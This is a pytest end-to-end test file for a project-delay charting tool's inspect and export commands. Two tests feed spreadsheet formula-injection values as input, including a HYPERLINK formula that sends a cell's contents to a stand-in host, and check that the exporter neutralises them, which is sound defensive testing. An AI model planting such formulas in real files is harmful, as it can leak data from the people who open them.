"""End to end through the real entry point (``python main.py``), in subprocesses (in process
where a test lowers a limit to stay fast)."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from PySide6 import QtGui

from data.contract import CSV_COLUMNS
from tests.app.conftest import colour_mask, rgb_array, rows_of_pixels
from tests.conftest import ROOT, SAMPLES

MAIN = str(ROOT / "main.py")


def run(
    *args: str, env: dict[str, str] | None = None, timeout: float = 120, script: str = MAIN
) -> subprocess.CompletedProcess:
    environ = {k: v for k, v in os.environ.items() if k != "QT_QPA_PLATFORM"}
    environ.pop("DISPLAY", None)
    environ.pop("WAYLAND_DISPLAY", None)
    environ.update(env or {})
    result = subprocess.run(
        [sys.executable, script, *args],
        capture_output=True,
        text=True,
        timeout=timeout,
        env=environ,
        cwd=ROOT,
        stdin=subprocess.DEVNULL,
    )
    assert "Traceback" not in result.stderr, result.stderr
    return result


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_inspect_json_reports_the_sample() -> None:
    result = run("inspect", "--json")
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    assert report["projects"] == 16
    assert report["events"] == 151
    assert report["problems"] == []
    assert {Path(f["path"]).name for f in report["files"]} == {"projects.csv", "events.csv"}
    for f in report["files"]:
        assert set(f) >= {"path", "format", "encoding", "delimiter", "rows", "mapping"}
    assert all(set(c) == {"project_id", "field", "values", "used"} for c in report["conflicts"])


def test_inspect_json_shows_how_each_date_column_was_read() -> None:
    result = run("inspect", "--json", str(SAMPLES / "events.csv"))
    (events,) = json.loads(result.stdout)["files"]
    readings = events["readings"]
    assert list(readings) == ["event_date", "promised_date_earliest", "promised_date_latest"]
    # The statement dates are whole years, months and days; the first of each in the file
    # (line 9 "2011", line 2 "2006-05", line 3 "2006-07-26") come in the first round, years
    # (the widest) first; the next year and month (lines 10 and 4) fill the five.
    assert readings["event_date"] == [
        {"value": "2011", "reading": "2011", "earliest": "2011-01-01", "latest": "2011-12-31"},
        {"value": "2013", "reading": "2013", "earliest": "2013-01-01", "latest": "2013-12-31"},
        {"value": "2006-05", "reading": "May 2006", "earliest": "2006-05-01",
         "latest": "2006-05-31"},
        {"value": "2006-07", "reading": "Jul 2006", "earliest": "2006-07-01",
         "latest": "2006-07-31"},
        {"value": "2006-07-26", "reading": "26 Jul 2006", "earliest": "2006-07-26",
         "latest": "2006-07-26"},
    ]  # fmt: skip
    # The keys that were there before stay, in their order, the readings last.
    assert list(events)[-2:] == ["date_order", "readings"]
    text = run("inspect", str(SAMPLES / "events.csv")).stdout
    assert "  dates in 'event_date' read as:\n    2011 → 2011\n" in text


def test_inspect_text_and_explicit_files() -> None:
    result = run("inspect", str(SAMPLES / "events.csv"))
    assert result.returncode == 0
    assert "151 events" in result.stdout


def test_inspect_json_when_nothing_loads(tmp_path: Path) -> None:
    result = run("inspect", "--json", str(tmp_path / "missing.csv"))
    assert result.returncode == 1
    report = json.loads(result.stdout)
    assert report["projects"] == 0
    assert report["problems"][0]["message"].endswith("no such file")


def test_export_png_has_the_requested_width(tmp_path: Path) -> None:
    out = tmp_path / "chart.png"
    result = run(
        "export",
        "-o",
        str(out),
        "--width",
        "1200",
        "--as-of",
        "2026-11-26",
        "--title",
        "Promised vs actual",
    )
    assert result.returncode == 0, result.stderr
    image = QtGui.QImage(str(out))
    assert image.width() == 1200
    assert image.height() > 16 * 30  # every one of the 16 rows is in the picture
    # Not a blank chart: the overrun colour (Okabe-Ito vermillion) is painted.
    small = image.scaled(300, image.height() // 4)
    colours = {
        small.pixelColor(x, y).name() for x in range(small.width()) for y in range(small.height())
    }
    assert any(_near(c, "#d55e00") for c in colours)
    assert any(_near(c, "#0072b2") for c in colours)


def _near(a: str, b: str, tol: int = 24) -> bool:
    ca, cb = QtGui.QColor(a), QtGui.QColor(b)
    return all(abs(x - y) <= tol for x, y in zip(ca.getRgb()[:3], cb.getRgb()[:3], strict=True))


def test_export_csv_has_the_contract_columns(tmp_path: Path) -> None:
    out = tmp_path / "metrics.csv"
    result = run("export", "-o", str(out), "--as-of", "2026-11-26")
    assert result.returncode == 0, result.stderr
    rows = read_csv(out)
    assert len(rows) == 16
    assert list(rows[0])[: len(CSV_COLUMNS)] == CSV_COLUMNS
    ber = next(r for r in rows if r["project_id"] == "ber_airport")
    assert ber["slip_days"] == "3289" and ber["kept"] == "false" and ber["slip_pct"] == "174.9"
    cavim = next(r for r in rows if r["project_id"] == "ven_ak103_cavim")
    assert cavim["actual_end"] == "" and cavim["slip_at_least"] == "true"


def test_export_as_of_replays_the_past(tmp_path: Path) -> None:
    out = tmp_path / "then.csv"
    assert run("export", "-o", str(out), "--as-of", "2013-11-01").returncode == 0
    rows = {r["project_id"]: r for r in read_csv(out)}
    assert rows["ven_ak103_cavim"]["latest_promise"] == "2014-11-30"
    assert rows["ber_airport"]["status"] == "ongoing"


def test_csv_export_neutralises_formulas(tmp_path: Path) -> None:
    data = tmp_path / "evil.csv"
    data.write_text(
        'id,name,start,deadline\n=1+1,"=HYPERLINK(""x"")",2001,2003\n-2+3,@SUM(A1),2001,2004\n',
        encoding="utf-8",
    )
    out = tmp_path / "m.csv"
    assert run("export", str(data), "-o", str(out), "--as-of", "2010-01-01").returncode == 0
    rows = read_csv(out)
    assert rows[0]["project_id"] == "'=1+1" and rows[0]["name"].startswith("'=HYPERLINK")
    assert rows[1]["project_id"] == "'-2+3" and rows[1]["name"] == "'@SUM(A1)"
    assert rows[0]["slip_days"].lstrip("-").isdigit()  # numbers are left alone


def test_csv_export_neutralises_formulas_in_attribute_names(tmp_path: Path) -> None:
    # An attribute's header comes from the input file and heads a column of the CSV.
    data = tmp_path / "evil.csv"
    data.write_text(
        'id,name,start,deadline,"=HYPERLINK(""http://x/?""&A2)",@SUM(1+1),-5\n'
        "a,Alpha,2001,2003,v,w,x\n",
        encoding="utf-8",
    )
    out = tmp_path / "m.csv"
    assert run("export", str(data), "-o", str(out), "--as-of", "2010-01-01").returncode == 0
    with open(out, newline="", encoding="utf-8") as handle:
        header = next(csv.reader(handle))
    assert header[-3:] == ['\'=HYPERLINK("http://x/?"&A2)', "'@SUM(1+1)", "-5"]
    assert not any(h[:1] in ("=", "+", "@") for h in header)


@pytest.mark.parametrize(
    "args",
    [
        ("export", "-o", "out.gif"),
        ("export", "-o", "x.png", "--as-of", "soonish"),
        ("export", "--no-such-option", "-o", "x.png"),
        ("export",),
        ("inspect", "--bogus"),
    ],
)
def test_bad_usage_exits_2(args: tuple[str, ...], tmp_path: Path) -> None:
    result = run(*[a if not a.startswith(("out.", "x.")) else str(tmp_path / a) for a in args])
    assert result.returncode == 2
    assert result.stderr.strip()
    assert not (tmp_path / "x.png").exists()


def test_nothing_loaded_exits_1_and_writes_nothing(tmp_path: Path) -> None:
    out = tmp_path / "out.png"
    result = run("export", str(tmp_path / "missing.csv"), "-o", str(out))
    assert result.returncode == 1
    assert "missing.csv" in result.stderr
    assert not out.exists()


def test_unwritable_target_exits_1_and_keeps_existing_file(tmp_path: Path) -> None:
    result = run("export", "-o", str(tmp_path / "no" / "such" / "folder" / "out.csv"))
    assert result.returncode == 1
    assert "does not exist" in result.stderr
    existing = tmp_path / "keep.png"
    existing.write_bytes(b"precious")
    result = run("export", "-o", str(existing), "--width", "5")
    assert result.returncode == 1
    assert existing.read_bytes() == b"precious"


def test_window_without_display_says_so_in_one_line() -> None:
    result = run()
    assert result.returncode == 1
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1
    assert "no display" in lines[0] and "slipline export" in lines[0]


# The real start-up (``slipline`` with no files) in its own process, with the window class
# wrapped: once the first data is shown (or the load failed) the window grabs itself into
# argv[1], prints what it shows and quits. SLIPLINE_QUIT_AFTER_MS ends it if neither happens.
STARTUP_PROBE = """
import sys
from PySide6 import QtCore, QtWidgets
import app.main_window
from app.cli import main

class Probe(app.main_window.MainWindow):
    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        done = lambda *_: QtCore.QTimer.singleShot(300, self.report)
        self.controller.snapshot_changed.connect(done)
        self.controller.load_failed.connect(done)

    def report(self):
        layers = self.timeline.layers
        print("rows:", 0 if layers is None else layers.n_rows)
        print("status:", self.summary_label.text())
        self.grab().save(sys.argv[1])
        QtWidgets.QApplication.quit()

app.main_window.MainWindow = Probe
sys.exit(main([]))
"""


def test_window_starts_draws_the_sample_and_quits(tmp_path: Path) -> None:
    picture = tmp_path / "window.png"
    result = run(
        STARTUP_PROBE,
        str(picture),
        script="-c",
        env={"QT_QPA_PLATFORM": "offscreen", "SLIPLINE_QUIT_AFTER_MS": "60000"},
        timeout=90,
    )
    assert result.returncode == 0, result.stderr
    noise = [ln for ln in result.stderr.splitlines() if "propagateSizeHints" not in ln]
    assert noise == []
    assert "rows: 16\n" in result.stdout
    assert "status: 16 projects shown · " in result.stdout
    # The picture of the window holds the bars: the actual work in blue (#0072B2) and the
    # overruns in vermillion (#D55E00), in separate bands, one per row in view.
    image = QtGui.QImage(str(picture))
    assert not image.isNull()
    pixels = rgb_array(image)
    for colour in ((0x00, 0x72, 0xB2), (0xD5, 0x5E, 0x00)):
        ys = rows_of_pixels(colour_mask(pixels, colour))
        assert len(ys) > 0 and np.ptp(ys) > 10 * 44  # from the first rows to the tenth and on


def test_full_disk_during_export_keeps_the_existing_file(tmp_path: Path, monkeypatch) -> None:
    import errno

    from app.export import ExportError, write_atomic

    target = tmp_path / "chart.csv"
    target.write_bytes(b"old and precious")

    def fill_disk(tmp: Path) -> None:
        tmp.write_bytes(b"half")
        raise OSError(errno.ENOSPC, "No space left on device")

    with pytest.raises(ExportError, match="No space left"):
        write_atomic(target, fill_disk)
    assert target.read_bytes() == b"old and precious"
    assert [p.name for p in tmp_path.iterdir()] == ["chart.csv"]  # no temporary file left


def test_export_into_read_only_folder_is_a_clear_error(tmp_path: Path, monkeypatch) -> None:
    import errno
    import tempfile

    from app.export import ExportError, write_atomic

    def refuse(*args, **kwargs):
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr(tempfile, "mkstemp", refuse)
    with pytest.raises(ExportError, match="Permission denied"):
        write_atomic(tmp_path / "x.png", lambda tmp: None)


def test_columns_named_like_metrics_are_kept_apart(tmp_path: Path) -> None:
    data = tmp_path / "p.csv"
    data.write_text(
        "project_id,name,start,promised_end,slip_days,kept\n"
        "A,Alpha,2010-01-01,2011-01-01,banana,yes\n",
        encoding="utf-8",
    )
    out = tmp_path / "m.csv"
    assert run("export", str(data), "-o", str(out), "--as-of", "2012-01-01").returncode == 0
    [row] = read_csv(out)
    assert row["slip_days"] == "365" and row["kept"] == "false"  # computed, not the file's
    assert row["attr_slip_days"] == "banana" and row["attr_kept"] == "yes"
    png = tmp_path / "m.png"
    assert run("export", str(data), "-o", str(png), "--as-of", "2012-01-01").returncode == 0


def test_csv_columns_in_their_order_then_attributes_renamed_apart(tmp_path: Path) -> None:
    """The twelve figures, the as-of date, the four dates at their own precision, then the
    file's attributes in file order; one named like a contract column is ``attr_<name>``, and
    ``attr_<name>_2`` when that is taken too."""
    data = tmp_path / "p.csv"
    data.write_text(
        "project_id,name,start,deadline,region,attr_kept,kept,start_text,latest_promise_text\n"
        "A,Alpha,2010,Q3 2011,north,a,b,c,d\n",
        encoding="utf-8",
    )
    out = tmp_path / "x.csv"
    result = run("export", str(data), "-o", str(out), "--as-of", "2012-01-01")
    assert result.returncode == 0, result.stderr
    header = out.read_text(encoding="utf-8").splitlines()[0].split(",")
    assert header == [
        "project_id", "name", "start", "promised_end", "actual_end", "status",
        "latest_promise", "slip_days", "slip_at_least", "slip_pct", "repromises", "kept",
        "as_of",
        "start_text", "promised_end_text", "latest_promise_text", "actual_end_text",
        "region", "attr_kept", "attr_kept_2", "attr_start_text", "attr_latest_promise_text",
    ]  # fmt: skip
    [row] = read_csv(out)
    # Start 2010-01-01, first promise 2011-09-30 (the end of Q3 2011), unfinished on 2012-01-01.
    assert (row["start"], row["promised_end"], row["latest_promise"]) == (
        "2010-01-01",
        "2011-09-30",
        "2011-09-30",
    )
    assert (row["as_of"], row["start_text"], row["promised_end_text"]) == (
        "2012-01-01",
        "2010",
        "Q3 2011",
    )
    assert (row["latest_promise_text"], row["actual_end_text"]) == ("Q3 2011", "")
    assert (row["region"], row["attr_kept"], row["attr_kept_2"]) == ("north", "a", "b")
    assert (row["attr_start_text"], row["attr_latest_promise_text"]) == ("c", "d")


def test_export_never_overwrites_an_input(tmp_path: Path) -> None:
    data = tmp_path / "events.csv"
    data.write_bytes((SAMPLES / "events.csv").read_bytes())
    before = data.read_bytes()
    result = run("export", str(data), "-o", str(data))
    assert result.returncode == 2 and "input" in result.stderr
    assert data.read_bytes() == before


def test_export_keeps_the_replaced_file_mode(tmp_path: Path) -> None:
    out = tmp_path / "m.csv"
    out.write_text("old", encoding="utf-8")
    out.chmod(0o640)
    assert run("export", "-o", str(out)).returncode == 0
    assert (out.stat().st_mode & 0o777) == 0o640


def test_a_display_that_does_not_answer_is_one_line_not_an_abort() -> None:
    result = run(env={"DISPLAY": ":97"})
    assert result.returncode == 1
    assert len(result.stderr.strip().splitlines()) == 1
    assert "slipline export" in result.stderr


def test_date_order_option_reads_ambiguous_dates(tmp_path: Path) -> None:
    """``--date-order`` settles dates like 03/04/2013 for inspect and export; without it they
    are reported, not guessed; a wrong value is a usage error."""
    path = tmp_path / "ambiguous.csv"
    path.write_text("project_id,event_date,promised_date\np1,03/04/2013,05/06/2014\n", "utf-8")
    report = json.loads(run("inspect", str(path), "--json").stdout)
    assert any("--date-order" in p["message"] for p in report["problems"])
    chosen = run("inspect", str(path), "--json", "--date-order", "month-first")
    report = json.loads(chosen.stdout)
    assert report["problems"] == [] and report["files"][0]["date_order"] == "month-first"
    out = tmp_path / "m.csv"
    args = ("-o", str(out), "--date-order", "day-first", "--as-of", "2020-01-01")
    assert run("export", str(path), *args).returncode == 0
    assert read_csv(out)[0]["promised_end"] == "2014-06-05"
    assert run("inspect", str(path), "--date-order", "sideways").returncode == 2
    text = run("inspect", str(path), "--date-order", "day-first").stdout
    assert "dates like 03/04/2013 read day-first (chosen)" in text


def test_formula_guard_keeps_every_character() -> None:
    import pandas as pd

    from app.export import neutralise_formulas

    frame = pd.DataFrame({"a": ["=x\x00", "-5", "+1e3", "@SUM(A1)", "ok", None]})
    out = neutralise_formulas(frame)["a"].tolist()
    assert out == ["'=x\x00", "-5", "+1e3", "'@SUM(A1)", "ok", ""]


def test_a_filter_matching_nothing_says_so_and_still_writes(tmp_path: Path) -> None:
    out = tmp_path / "empty.png"
    done = run("export", "-o", str(out), "--filter", "no such project", "--as-of", "2026-11-26")
    assert done.returncode == 0 and out.exists()
    assert "no project matches --filter 'no such project'" in done.stderr


def test_a_tall_overview_export_draws_every_row_in_bands(tmp_path: Path, qapp, monkeypatch) -> None:
    """An overview bigger than one band (here ~30 bands, so it stays fast) is drawn whole: every
    project has an actual span, and the PNG has that colour on as many pixel rows as there are
    projects (rows ~1.7 px apart, each on its own pixel row)."""
    import numpy as np

    import app.export_layout
    from app import cli
    from widgets import palette
    from widgets.timeline import dense

    n = 1200
    lines = ["id,name,start,deadline,actual finish"]
    for i in range(n):  # 2..5 years from 2000..2009, finished 1..6 years after the start
        y = 2000 + i % 10
        lines.append(f"p{i},P {i},{y}-03-01,{y + 2 + i % 4}-06-30,{y + 1 + i % 6}-09-30")
    data = tmp_path / "many.csv"
    data.write_text("\n".join(lines) + "\n", encoding="utf-8")
    # 1200 rows, past the readable cap: the overview's canvas, here 2280 px tall (1.9 × the
    # width), rows under 2 px each
    monkeypatch.setattr(app.export_layout, "DENSE_ASPECT", 1.9)
    monkeypatch.setattr(dense, "BAND_PIXELS", 60_000)  # ~70 pixel rows a band at this width
    monkeypatch.setenv("QT_QPA_PLATFORM", "offscreen")
    out = tmp_path / "tall.png"
    args = ["export", str(data), "-o", str(out), "--width", "1200", "--no-legend"]
    assert cli.main([*args, "--as-of", "2026-11-26"]) == 0
    image = QtGui.QImage(str(out)).convertToFormat(QtGui.QImage.Format.Format_RGB32)
    assert image.height() > 2000
    words = np.frombuffer(image.constBits(), dtype=np.uint32)
    pixels = words.reshape(image.height(), image.bytesPerLine() // 4)[:, : image.width()]
    actual = palette.LIGHT.actual.color().rgb() & 0xFFFFFF
    assert ((pixels & 0xFFFFFF) == actual).any(axis=1).sum() == n


def test_unknown_group_by_column_exits_2_and_writes_nothing(tmp_path: Path) -> None:
    # docs/contracts.md: an unknown --group-by column is bad usage, exit code 2 (not 1, the code
    # for "nothing could be loaded"); the sample's groupable columns are named in the message.
    out = tmp_path / "out.csv"
    result = run("export", "-o", str(out), "--group-by", "planet")
    assert result.returncode == 2, result.stderr
    assert "--group-by 'planet' is not a column of the data" in result.stderr
    assert "status" in result.stderr
    assert not out.exists()
    grouped = tmp_path / "grouped.csv"  # a known column is fine
    assert run("export", "-o", str(grouped), "--group-by", "status").returncode == 0
    assert grouped.exists()


def test_a_width_too_narrow_for_the_chart_fails_and_names_the_least_that_fits(
    tmp_path: Path,
) -> None:
    """Below what its names, slips and legend need (beside a usable time axis) the chart would be
    cut off at the right: exit 1, nothing written, and the width that fits is named; that width
    then works, and without the legend less is needed."""
    import re

    out = tmp_path / "narrow.png"
    narrow = run("export", "-o", str(out), "--width", "400", "--as-of", "2026-11-26")
    assert narrow.returncode == 1 and not out.exists()
    need = int(re.search(r"needs at least (\d+) px", narrow.stderr).group(1))
    assert 400 < need <= 1600 and "--no-legend" in narrow.stderr
    short = run("export", "-o", str(out), "--width", str(need - 1), "--as-of", "2026-11-26")
    assert short.returncode == 1 and not out.exists()
    fits = run("export", "-o", str(out), "--width", str(need), "--as-of", "2026-11-26")
    assert fits.returncode == 0 and QtGui.QImage(str(out)).width() == need
    bare = run("export", "-o", str(out), "--width", "400", "--no-legend", "--as-of", "2026-11-26")
    need_bare = int(re.search(r"needs at least (\d+) px", bare.stderr).group(1))
    assert bare.returncode == 1 and need_bare < need


def test_a_long_title_and_long_file_names_are_cut_not_made_wider_than_the_image(
    tmp_path: Path,
) -> None:
    """A title and source names wider than the image are cut with "…" (the footer keeps its "as
    of" date): the chart keeps the requested width and is not refused as too narrow."""
    folder = tmp_path / ("n" * 120)
    folder.mkdir()
    paths = []
    for name in ("projects.csv", "events.csv"):
        path = folder / (name[:-4] + "_" + "x" * 120 + ".csv")
        path.write_bytes((SAMPLES / name).read_bytes())
        paths.append(str(path))
    out = tmp_path / "long.png"
    title = "A title far longer than any chart is wide " * 12
    done = run("export", *paths, "-o", str(out), "--title", title, "--as-of", "2026-11-26")
    assert done.returncode == 0, done.stderr
    assert QtGui.QImage(str(out)).width() == 1600
